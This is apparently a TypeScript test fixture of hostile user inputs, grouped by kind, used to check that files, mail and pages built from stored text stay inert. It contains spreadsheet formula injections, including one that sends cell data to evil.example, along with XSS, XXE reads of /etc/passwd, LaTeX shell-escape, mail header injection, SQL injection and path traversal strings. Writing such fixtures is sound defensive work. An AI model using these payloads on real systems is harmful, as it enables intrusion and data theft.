/** Texts that somebody could type into any field, grouped by what they try. */
const kinds = {
  formula: [
    '=1+1',
    '=HYPERLINK("https://evil.example";"klik hier")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/"&A1)',
    '+31 10 123 45 67',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    "'=1+1",
    '%0A=1+1',
    '|=1+1',
  ],
  html: [
    '<script>window.hit = 1</script>',
    '<img src=x onerror="window.hit = 1">',
    '"><svg onload="window.hit = 1">',
    "' autofocus onfocus='window.hit = 1",
    'javascript:window.hit=1',
    'data:text/html,<script>window.hit=1</script>',
    '</textarea><script>window.hit = 1</script>',
    '</title><script>window.hit = 1</script>',
    '</style><script>window.hit = 1</script>',
    '<a href="javascript:window.hit=1">klik</a>',
    '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    '{{constructor.constructor("window.hit = 1")()}}',
    '${window.hit = 1}',
    '<b>vet</b> &amp; &lt;i&gt; &#60;',
    '<!-- weg -->',
    '<style>body { display: none }</style>',
    '<base href="https://evil.example/">',
  ],
  markup: [
    '#read("/etc/passwd")',
    '#import "@preview/cetz:0.3.0": *',
    '#eval("1 + 1")',
    '#panic("weg")',
    '#set page(width: 1cm)',
    '$ sum_(k=0)^n k $',
    '*vet* _schuin_ `code` ~ \\ een/twee',
    '= Kop',
    '- punt',
    '// weg',
    '/* weg',
    ']',
    '[[[',
    '}{',
    '<label> @verwijzing',
    '\\u{41}',
    '```typ #read("x")```',
    '# Kop van Markdown',
    '[klik](javascript:alert(1)) ![beeld](https://evil.example/x.png)',
    '\\input{/etc/passwd} \\write18{id} \\def\\x{}',
    '$$\\frac{1}{0}$$',
  ],
  xml: [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '&e; &amp;lt; &#x3c;',
    ']]>',
    '<![CDATA[weg]]>',
    '_x0041_ _x000D_ _x005F_',
    '</t></is></c><c t="str"><f>1+1</f></c>',
    '</text:p><table:table-cell table:formula="of:=1+1"/>',
    '</a:t></a:r><a:hlinkClick r:id="rId1"/>',
  ],
  table: [
    'een;twee;drie',
    'een,twee,drie',
    'een\ttwee',
    '"',
    '""',
    '"een";"twee"',
    'een "twee" drie',
    'sep=;',
    '007',
    '1E5',
    '3-4',
    '0,1',
    'TRUE',
    '#N/A',
  ],
  script: [
    'abc \u202Egnp.exe',
    '\u2066links\u2069 \u2067rechts\u2069 \u200Erand\u200F',
    'עברית en العربية in één zin',
    'nul\u200Bbreed\u200Cte\u200D \u00ADzacht',
    'z\u0351\u0343\u034Ba\u0352\u030D\u0304l\u0321\u0322g\u0489o\u0334',
    'e\u0301e\u0301n tegenover één',
    'ﬁets ﬂauw ℌ Ⅷ ½',
    '漢字 かな 한글 ไทย हिन्दी',
    '\uFEFFmerk vooraan',
    'Kоffie (met een Russische о)',
  ],
  emoji: ['👍', '👩‍👩‍👧‍👦 gezin', '🏴󠁧󠁢󠁳󠁣󠁴󠁿 vlag 🇳🇱', '✅ gedaan ⚠️', '𝒻𝒶𝓃𝒸𝓎 𠜎'],
  control: [
    'bel\u0007 en terug\u0008',
    'kleur \u001B[31mrood\u001B[0m',
    '\u0001\u0002\u001F\u007F',
    'einde \u0085 van \u009F rij',
    'geen teken \uFFFE\uFFFF',
  ],
  lines: [
    'een\ntwee\n\ndrie',
    'een\r\ntwee',
    'een\rtwee',
    'een\u2028twee\u2029drie',
    'een\u000Btwee\u000Cdrie',
    'Onderwerp\r\nBcc: ander@evil.example\r\n\r\nTekst',
    '.',
    '\n.\nQUIT',
  ],
  place: ['../../etc/passwd', 'C:\\CON\\nul.pdf', 'a/b\\c:d*e?f"g<h>i|j', '.', '-rf', '%2e%2e%2f'],
  word: [
    "'; drop table scans; --",
    "' or '1'='1",
    '%s %n %d {0} {{x}} $1 $& $` \\1',
    '__proto__',
    'constructor',
    'null',
    'undefined',
    'NaN',
    '[object Object]',
  ],
  long: [
    'a'.repeat(10_000),
    'Een zin die steeds terugkomt. '.repeat(333).trim(),
    `${'<'.repeat(3_000)}${'&'.repeat(3_000)}${'"'.repeat(3_000)}`,
    Array.from({ length: 2_000 }, (_, line) => `r${line}`).join('\n'),
  ],
} as const satisfies Record<string, readonly string[]>;

export type HostileKind = keyof typeof kinds;
export interface HostileText {
  readonly kind: HostileKind;
  readonly text: string;
  /** Names the text in the title of a test: short, and readable whatever is in it. */
  readonly name: string;
}

const nameOf = (text: string): string => {
  const shown = text.length > 60 ? `${text.slice(0, 40)}… of ${text.length}` : text;
  return JSON.stringify(shown).replace(
    /[^\x20-\x7e]/g,
    (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
};

/** What people can type and the database can keep, and no file, mail or page may do anything with. */
export const hostileTexts: readonly HostileText[] = Object.entries(kinds).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind: kind as HostileKind, text, name: nameOf(text) })),
);

export const hostileTextsOf = (...chosen: readonly HostileKind[]): readonly HostileText[] =>
  hostileTexts.filter(({ kind }) => chosen.includes(kind));

/** What no database can keep: refused at every door, and yet nothing may break on it. */
export const unstorableTexts: readonly string[] = [
  'nul \0 teken',
  'half \uD83D teken',
  'half \uDC4D teken',
  '\uDC00\uD800 verkeerd om',
];
